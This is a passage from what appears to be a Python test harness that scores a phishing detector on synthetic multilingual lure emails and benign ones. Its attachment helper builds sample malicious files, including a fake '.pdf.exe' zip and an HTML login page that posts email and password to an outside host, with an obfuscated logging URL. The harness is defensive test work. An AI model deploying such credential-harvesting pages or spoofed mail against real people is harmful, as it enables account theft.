     "Отследить: https://www.kurier-primer.example.com/track/4471208", False),
    ("ru", "invoice", "zhkh-servis.example.com", "ЖКХ Сервис", "Квитанция за ноябрь",
     "Уважаемый абонент! Квитанция за ноябрь на сумму 6 218,40 руб. доступна в личном кабинете: https://lk.zhkh-servis.example.com\n"
     "Оплатить можно до 10 декабря без комиссии.", False),
    ("ru", "security", "pochta-primer.example.com", "Почта Пример", "Вход в аккаунт с нового устройства",
     "Елена, в ваш аккаунт выполнен вход с нового устройства: Windows, Москва, 2 декабря в 19:40.\n"
     "Если это были вы, ничего делать не нужно. Если нет — смените пароль в настройках.", False),
    # ===================== Turkish (tr)
    ("tr", "bank", "anadolu-bankasi.example.com", "Anadolu Bankası", "Kredi kartı ekstreniz hazır",
     "Sayın Ayşe Demir,\n\nKredi kartınızın Kasım dönemi ekstresi hazırlanmıştır. Toplam borç: 3.482,10 TL, son ödeme tarihi: 13.12.2026.\n"
     "Ekstrenizi mobil uygulamamızdan görüntüleyebilirsiniz. Bankamız e-posta ile şifre veya kart bilgisi talep etmez.", False),
    ("tr", "newsletter", "kitap-dunyasi.example.com", "Kitap Dünyası", "Aralık ayının çok satanları",
     "Merhaba Ayşe,\n\nAralık ayının en çok okunan kitaplarını senin için derledik.\n"
     "Listeyi incele: https://www.kitap-dunyasi.example.com/cok-satanlar\n\n"
     "Bu e-postayı bülten aboneliğin nedeniyle aldın. Abonelikten çık: https://www.kitap-dunyasi.example.com/abonelik-iptal?u=88", True),
    ("tr", "order", "ev-esyasi.example.com", "Ev Eşyası", "Siparişiniz alındı - #TR55012",
     "Siparişiniz için teşekkür ederiz!\n\nNevresim takımı – 649,00 TL\nKargo – ücretsiz\n\n"
     "Siparişiniz 2 iş günü içinde kargoya verilecektir. Takip: https://www.ev-esyasi.example.com/hesabim/siparisler", False),
    ("tr", "colleague", "sirket.example.com", "Emre Kaya", "Toplantı notları",
     "Selam Ayşe,\n\nBugünkü toplantının notlarını paylaşılan klasöre ekledim. Müşteri sunumu için pazartesiye kadar taslak hazırlayabilir miyiz?\n\nKolay gelsin,\nEmre", False),
    ("tr", "tax", "vergi-dairesi-ornek.example.com", "Vergi Dairesi", "Motorlu taşıtlar vergisi hatırlatması",
     "Sayın mükellefimiz,\n\nMotorlu taşıtlar vergisinin 2. taksit ödemesi için son gün 31 Aralık'tır. "
     "Borcunuzu Gelir İdaresi Başkanlığı'nın resmi internet sitesinden veya bankanız aracılığıyla ödeyebilirsiniz.\n\n"
     "Bu e-posta bilgilendirme amaçlıdır; bağlantı içermez.", False),
    ("tr", "personal", "example.net", "Annem", "Harçlık",
     "Kızım, hesabına 1.000 lira gönderdim, kitaplarını al. Hafta sonu gelecek misin? Baban mantı yapacak.\n\nÖpüyorum, annen", False),
    ("tr", "parcel", "hizli-kargo.example.com", "Hızlı Kargo", "Kargonuz dağıtıma çıktı",
     "Merhaba Ayşe, 7781203 numaralı kargonuz bugün dağıtıma çıkmıştır.\n"
     "Kargonuzu takip edin: https://www.hizli-kargo.example.com/takip/7781203", False),
    ("tr", "invoice", "dogalgaz-ornek.example.com", "Doğalgaz Dağıtım", "Kasım ayı faturanız",
     "Sayın abonemiz, Kasım ayı doğalgaz faturanız 742,35 TL olarak düzenlenmiştir. Son ödeme tarihi 15.12.2026.\n"
     "Fatura detayları için online işlemler: https://online.dogalgaz-ornek.example.com", False),
    ("tr", "security", "muzik-uygulamasi.example.com", "Müzik Uygulaması", "Hesabınıza yeni giriş",
     "Merhaba, hesabınıza İstanbul'dan yeni bir cihazla giriş yapıldı. Siz değilseniz ayarlardan şifrenizi değiştirin.", False),
    # ===================== Chinese, simplified (zh)
    ("zh", "bank", "shili-yinhang.example.com", "示例银行", "您的信用卡对账单已生成",
     "尊敬的张伟先生：\n\n您尾号4421的信用卡11月账单已生成，本期应还金额 3,208.50 元，到期还款日 12月18日。\n"
     "您可通过手机银行App查询账单明细。本行不会通过邮件索取您的密码或验证码。", False),
    ("zh", "newsletter", "jishu-zazhi.example.com", "技术周刊", "第128期：大模型应用落地的五个经验",
     "你好，\n\n本期内容：大模型应用落地的五个经验、前端性能优化实践、开源项目推荐。\n"
     "阅读全文：https://www.jishu-zazhi.example.com/issue/128\n\n"
     "你收到这封邮件是因为订阅了技术周刊。退订：https://www.jishu-zazhi.example.com/unsubscribe?u=3312", True),
    ("zh", "order", "shudian-shili.example.com", "示例书店", "订单确认：20261203-8812",
     "感谢您的购买！\n\n《三体》全集 ×1  98.00元\n运费  0.00元\n实付  98.00元\n\n"
     "预计12月5日送达。查看订单：https://www.shudian-shili.example.com/orders", False),
    ("zh", "colleague", "gongsi.example.com", "刘洋", "下周评审会安排",
     "张伟你好，\n\n下周二下午两点的方案评审会改到三楼会议室。麻烦你把测试报告提前发给大家，我们会上重点讨论性能部分。\n\n谢谢！\n刘洋", False),
    ("zh", "tax", "shuiwu-shili.example.com", "示例市税务局", "2026年度个人所得税汇算提醒",
     "纳税人您好：\n\n2026年度个人所得税综合所得汇算将于明年3月1日开始。届时请通过官方「个人所得税」App办理，"
     "不要轻信短信或邮件中的链接。本邮件不含任何链接。", False),
    ("zh", "personal", "example.net", "妈妈", "压岁钱",
     "伟伟，给你转了2000块，给孩子们准备压岁钱用的。你爸说过年早点回来，家里都准备好了。\n\n妈", False),
    ("zh", "parcel", "kuaidi-shili.example.com", "示例快递", "您的包裹正在派送中",
     "您好，您的包裹（单号 SL7781203）正在派送中，快递员将于今天下午送达。\n查看物流：https://www.kuaidi-shili.example.com/track/SL7781203", False),
    ("zh", "invoice", "dianxin-shili.example.com", "示例通信", "您的11月电子发票已开具",
     "尊敬的客户：您11月的话费电子发票已开具，金额 59.00 元。请登录网上营业厅下载：https://www.dianxin-shili.example.com/fapiao", False),
    ("zh", "security", "shequ-shili.example.com", "示例社区", "账号登录提醒",
     "你的账号于12月2日 21:05 在北京通过新设备登录。如非本人操作，请在设置中修改密码。", False),
    # ===================== Korean (ko)
    ("ko", "bank", "yesi-eunhaeng.example.com", "예시은행", "[예시은행] 11월 카드 이용대금 명세서",
     "김민지 고객님, 11월 카드 이용대금 명세서를 보내 드립니다.\n결제 예정 금액: 842,300원 (결제일 12월 14일)\n\n"
     "상세 내역은 예시은행 앱에서 확인하실 수 있습니다. 당행은 이메일로 비밀번호나 보안카드 번호를 요구하지 않습니다.", False),
    ("ko", "newsletter", "yori-jeongbo.example.com", "요리정보", "이번 주 추천 레시피: 김장 김치",
     "안녕하세요, 민지 님!\n\n이번 주에는 김장철을 맞아 배추김치와 깍두기 레시피를 소개합니다.\n"
     "레시피 보기: https://www.yori-jeongbo.example.com/recipe/kimjang\n\n"
     "본 메일은 뉴스레터 수신에 동의하신 분께 발송됩니다. 수신거부: https://www.yori-jeongbo.example.com/unsubscribe?u=71", True),
    ("ko", "order", "shop-yesi.example.com", "예시쇼핑", "주문이 완료되었습니다 (주문번호 20261203-0091)",
     "주문해 주셔서 감사합니다.\n\n겨울 패딩 조끼 1개 - 59,000원\n배송비 - 무료\n\n"
     "배송 조회: https://www.shop-yesi.example.com/mypage/orders", False),
    ("ko", "colleague", "hoesa.example.com", "이준호", "내일 회의 자료",
     "민지 씨, 내일 오전 회의 자료 공유 폴더에 올려 두었습니다. 3페이지 예산 부분 한번 검토 부탁드려요.\n\n이준호 드림", False),
    ("ko", "tax", "yesi-semuseo.example.com", "예시세무서", "종합부동산세 납부 안내",
     "납세자님께,\n\n2026년 종합부동산세 납부 기한은 12월 15일입니다. 고지서는 홈택스 또는 손택스 앱에서 확인하실 수 있습니다.\n"
     "보안을 위해 본 메일에는 링크를 포함하지 않습니다. 공식 앱이나 사이트에 직접 접속해 주세요.", False),
    ("ko", "personal", "example.net", "언니", "엄마 생신 선물",
     "민지야, 엄마 생신 선물로 안마의자 사기로 했잖아. 네 몫 25만원 내 계좌로 보내 줘. 토요일에 같이 가자~", False),
    ("ko", "parcel", "taekbae-yesi.example.com", "예시택배", "오늘 배송 예정입니다",
     "고객님의 상품이 오늘 14~16시 사이에 배송될 예정입니다.\n배송 조회: https://www.taekbae-yesi.example.com/track/5501203", False),
    ("ko", "invoice", "tongsin-yesi.example.com", "예시통신", "11월 이용요금 청구서",
     "김민지 고객님, 11월 이용요금은 48,500원이며 12월 20일 자동이체 예정입니다.\n"
     "상세 내역: https://my.tongsin-yesi.example.com/bill", False),
    ("ko", "security", "gyeim-yesi.example.com", "예시게임", "새로운 기기에서 로그인했습니다",
     "민지 님의 계정에 새로운 기기(Windows, 서울)에서 로그인했습니다. 본인이 아니라면 설정에서 비밀번호를 변경해 주세요.", False),
    # ===================== Indonesian (id)
    ("id", "bank", "bank-contoh.example.com", "Bank Contoh", "Notifikasi transaksi kartu debit",
     "Nasabah Yth. Dewi Lestari,\n\nTransaksi kartu debit Anda sebesar Rp 245.000 di SUPERMARKET SEJAHTERA pada 02/12/2026 pukul 19:20 berhasil.\n"
     "Bank Contoh tidak pernah meminta PIN, OTP, atau password melalui email.", False),
    ("id", "newsletter", "resep-nusantara.example.com", "Resep Nusantara", "Resep rendang untuk akhir pekan",
     "Halo Dewi,\n\nMinggu ini kami berbagi resep rendang daging yang empuk dan tips memilih santan.\n"
     "Baca selengkapnya: https://www.resep-nusantara.example.com/rendang\n\n"
     "Anda menerima email ini karena berlangganan. Berhenti berlangganan: https://www.resep-nusantara.example.com/unsubscribe?u=409", True),
    ("id", "order", "toko-contoh.example.com", "Toko Contoh", "Pesanan #ID88120 berhasil dibayar",
     "Terima kasih, pesanan Anda sudah kami terima.\n\nTas ransel – Rp 289.000\nOngkir – Rp 0\n\n"
     "Cek status pesanan: https://www.toko-contoh.example.com/akun/pesanan", False),
    ("id", "colleague", "perusahaan.example.com", "Budi Santoso", "Jadwal rapat minggu depan",
     "Halo Dewi,\n\nRapat evaluasi kita pindah ke hari Selasa jam 10 pagi ya. Tolong siapkan data penjualan bulan November.\n\nSalam,\nBudi", False),
    ("id", "tax", "kpp-contoh.example.com", "KPP Pratama Contoh", "Pengingat penyampaian SPT Tahunan",
     "Wajib Pajak Yth,\n\nKami mengingatkan bahwa batas akhir penyampaian SPT Tahunan adalah 31 Maret. "
     "Silakan lapor melalui situs resmi DJP dengan mengetik alamatnya langsung di peramban. Email ini tidak berisi tautan.", False),
    ("id", "personal", "example.net", "Ibu", "Uang sekolah adik",
     "Nak, ibu sudah transfer Rp 1.500.000 buat bayar uang sekolah adikmu ya. Tolong dibayarkan besok. Jangan lupa makan.\n\nIbu", False),
    ("id", "parcel", "kurir-contoh.example.com", "Kurir Contoh", "Paket Anda sedang diantar",
     "Halo Dewi, paket Anda dengan resi KC7781203 sedang diantar hari ini.\nLacak: https://www.kurir-contoh.example.com/lacak/KC7781203", False),
    ("id", "invoice", "listrik-contoh.example.com", "Listrik Contoh", "Tagihan listrik Desember",
     "Pelanggan Yth, tagihan listrik bulan Desember sebesar Rp 412.500 jatuh tempo 20/12/2026.\n"
     "Lihat rincian di https://pelanggan.listrik-contoh.example.com", False),
    ("id", "security", "aplikasi-contoh.example.com", "Aplikasi Contoh", "Login baru terdeteksi",
     "Hai Dewi, akun Anda baru saja masuk dari perangkat baru (Android, Jakarta). Jika bukan Anda, ganti kata sandi di pengaturan.", False),
]


def _encoded(text: str) -> str:
    """A header phrase as mailers write it: RFC 2047 B-encoded UTF-8 unless it is ASCII."""
    return text if text.isascii() else Header(text, "utf-8").encode()


def _attachment(filename: str) -> tuple[str, bytes]:
    """The content type and bytes of an attached file as malware mail carries it."""
    stem, _, ext = filename.rpartition(".")
    if ext == "zip":
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr(f"{stem}.pdf.exe", b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode.")
        return "application/zip", buf.getvalue()
    if ext == "html":
        page = ("<html><head><meta charset='utf-8'><title>Document</title></head><body>"
                "<p>Document protected. Sign in with your email account to view.</p>"
                "<form action='https://secure-doc-viewer.top/post.php' method='post'>"
                "<input type='email' name='email'><input type='password' name='pass'>"
                "<button type='submit'>View document</button></form>"
                "<script>var u=atob('aHR0cHM6Ly9zZWN1cmUtZG9jLXZpZXdlci50b3AvbG9n');</script></body></html>")
        return "text/html", page.encode()
    if ext == "iso":
        return "application/octet-stream", b"\x00" * 0x8001 + b"CD001\x01" + b"\x00" * 64 + f"{stem}.lnk".encode()
    return "application/octet-stream", b"\x00" * 64


def _b64(data: bytes) -> str:
    import base64
    raw = base64.b64encode(data).decode()
    return "\n".join(raw[i:i + 76] for i in range(0, len(raw), 76))


def _lure_auth(domain: str, n: int, spoofed: bool) -> str:
    if spoofed:
        return (f"mx.example.jp; spf=fail smtp.mailfrom={domain} smtp.helo=host-{n}.example.org; dkim=none; "
                f"dmarc=fail (p=NONE) header.from={domain}")
    return (f"mx.example.jp; spf=pass smtp.mailfrom={domain}; dkim=none; dmarc=none header.from={domain}",
            f"mx.example.jp; spf=softfail smtp.mailfrom=bounce{n}.example.org; dkim=pass header.d=mailer{n}.example.net; "
            f"dmarc=fail header.from={domain}",
            f"mx.example.jp; spf=neutral smtp.mailfrom={domain}; dkim=fail header.d={domain}; dmarc=none "
            f"header.from={domain}")[n % 3]


def _lure_mail(n: int, lang: str, name: str, address: str, subject: str, body: str, attach: str | None) -> bytes:
    spoofed = not name
    domain = address.rpartition("@")[2]
    sender = address if spoofed else f"{_encoded(name)} <{address}>"
    to = VICTIM[lang] if spoofed or n % 2 else "undisclosed-recipients:;"
    head = (f"Received: from host-{n}.example.org (unknown [203.0.113.{n % 250 + 1}])\n"
            f"\tby mx.example.jp (Postfix) with ESMTP id 4X{n:05d}; Thu, 03 Dec 2026 0{n % 10}:12:44 +0000\n"
            f"Authentication-Results: {_lure_auth(domain, n, spoofed)}\nFrom: {sender}\nTo: {to}\n"
            f"Subject: {_encoded(subject)}\nDate: Thu, 03 Dec 2026 0{n % 10}:12:40 +0000\n"
            f"Message-ID: <{n:04d}.w11@host-{n}.example.org>\nMIME-Version: 1.0\n")
    if attach is None:
        return (head + 'Content-Type: text/plain; charset="utf-8"\nContent-Transfer-Encoding: 8bit\n\n'
                + body + "\n").encode()
    ctype, data = _attachment(attach)
    b = f"=_w11_{n}"
    return (head + f'Content-Type: multipart/mixed; boundary="{b}"\n\n--{b}\n'
            'Content-Type: text/plain; charset="utf-8"\nContent-Transfer-Encoding: 8bit\n\n' + body + f"\n\n--{b}\n"
            f'Content-Type: {ctype}; name="{_encoded(attach)}"\nContent-Transfer-Encoding: base64\n'
            f'Content-Disposition: attachment; filename="{_encoded(attach)}"\n\n{_b64(data)}\n--{b}--\n').encode()


def _html(body: str) -> str:
    lines = []
    for line in body.split("\n"):
        words = [f'<a href="{w}">{w}</a>' if w.startswith("https://") else
                 w.replace("&", "&amp;").replace("<", "&lt;") for w in line.split(" ")]
        lines.append(" ".join(words))
    return "<html><body><div style='font-family:sans-serif'>" + "<br>\n".join(lines) + "</div></body></html>"


def _ordinary_mail(n: int, lang: str, domain: str, name: str, subject: str, body: str, newsletter: bool) -> bytes:
    local = "news" if newsletter else ("info" if domain != "example.net" else VICTIM[lang].split("@")[0][:3] + ".home")
    head = (f"Received: from out-{n}.{domain} (out-{n}.{domain} [198.51.100.{n % 250 + 1}])\n"
            f"\tby mx.example.jp (Postfix) with ESMTPS id 5Y{n:05d}; Thu, 03 Dec 2026 08:{n % 60:02d}:10 +0000\n"
            f"Authentication-Results: mx.example.jp; spf=pass smtp.mailfrom={domain}; dkim=pass header.d={domain}; "
            f"dmarc=pass header.from={domain}\nDKIM-Signature: v=1; a=rsa-sha256; d={domain}; s=s1; h=from:to:subject; "
            f"bh=AAAA; b=AAAA\nFrom: {_encoded(name)} <{local}@{domain}>\nTo: {VICTIM[lang]}\n"
            f"Subject: {_encoded(subject)}\nDate: Thu, 03 Dec 2026 08:{n % 60:02d}:05 +0000\n"
            f"Message-ID: <{n:04d}.o11@{domain}>\nMIME-Version: 1.0\n")
    if not newsletter:
        return (head + 'Content-Type: text/plain; charset="utf-8"\nContent-Transfer-Encoding: 8bit\n\n'
                + body + "\n").encode()
    b = f"=_o11_{n}"
    head += (f"List-Unsubscribe: <https://www.{domain}/list/unsubscribe?m={n}>, <mailto:unsubscribe@{domain}>\n"
             "List-Unsubscribe-Post: List-Unsubscribe=One-Click\nPrecedence: bulk\n")
    return (head + f'Content-Type: multipart/alternative; boundary="{b}"\n\n--{b}\n'
            'Content-Type: text/plain; charset="utf-8"\nContent-Transfer-Encoding: 8bit\n\n' + body + f"\n\n--{b}\n"
            'Content-Type: text/html; charset="utf-8"\nContent-Transfer-Encoding: 8bit\n\n' + _html(body)
            + f"\n--{b}--\n").encode()


def _rules(analysis: object) -> str:
    return ", ".join(f"{f.rule}:{f.severity}" + (f":{how}" if (how := dict(f.params).get("how", "")) else "")
                     for f in analysis.findings)  # type: ignore[attr-defined]


def main(argv: list[str]) -> int:
    listing = "--list" in argv
    started = time.perf_counter()
    caught: Counter[str] = Counter()
    named: Counter[str] = Counter()
    seen: Counter[str] = Counter()
    verdicts: Counter[str] = Counter()
    for n, (lang, kind, sub, name, address, subject, body, attach) in enumerate(LURES):
        for form, data in (("mail", _lure_mail(n, lang, name, address, subject, body, attach)),
                           ("paste", f"{subject}\n\n{body}".encode())):
            a = analyse(data)
            hit = a.verdict != "no_signs"
            good = a.verdict == kind
            verdicts[f"{kind}->{a.verdict}"] += 1
            for key in (form, lang, kind, f"{kind}/{sub}", "all"):
                seen[key] += 1
                caught[key] += hit
                named[key] += good
            if listing and not good:
                what = "miss" if not hit else "wrong"
                print(f"{what:<5} {lang} {kind:<8} {sub:<11} #{n:<3} {form:<5} {a.verdict:<10} [{_rules(a)}]")
    flagged: Counter[str] = Counter()
    oseen: Counter[str] = Counter()
    for n, (lang, sub, domain, name, subject, body, newsletter) in enumerate(ORDINARY):
        for form, data in (("mail", _ordinary_mail(n, lang, domain, name, subject, body, newsletter)),
                           ("paste", f"{subject}\n\n{body}".encode())):
            a = analyse(data)
            hit = a.verdict != "no_signs"
            for key in (form, lang, sub, "all"):
                oseen[key] += 1
                flagged[key] += hit
            if listing and hit:
                print(f"alarm {lang} {sub:<11} #{n:<3} {form:<5} {a.verdict:<10} [{_rules(a)}]")

    def row(key: str) -> str:
        return f"{caught[key]:>3}/{seen[key]:<3} ({named[key]:>3})"

    print(f"\n{'language':<9} {'lures caught (named)':<22} ordinary flagged")
    for lang in LANGS:
        print(f"{lang:<9} {row(lang):<22} {flagged[lang]}/{oseen[lang]}")
    print(f"\n{'class':<22} lures caught (named)")
    for kind in KINDS:
        print(f"{kind:<22} {row(kind)}")
        for sub in sorted({x[2] for x in LURES if x[1] == kind}):
            print(f"  {sub:<20} {row(f'{kind}/{sub}')}")
    print("\nordinary flagged by sub-class: " + ", ".join(
        f"{s} {flagged[s]}/{oseen[s]}" for s in sorted({x[1] for x in ORDINARY})))
    print("verdicts of lures (expected->given): " + ", ".join(f"{k} {v}" for k, v in sorted(verdicts.items())))
    for form in ("mail", "paste"):
        print(f"variant {form}: lures {caught[form]}/{seen[form]} ({named[form]}), ordinary {flagged[form]}/{oseen[form]}")
    print(f"\ntotal: lures caught {caught['all']}/{seen['all']}, named with the expected verdict "
          f"{named['all']}/{seen['all']}; ordinary flagged {flagged['all']}/{oseen['all']}  "
          f"({time.perf_counter() - started:.1f} s)")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
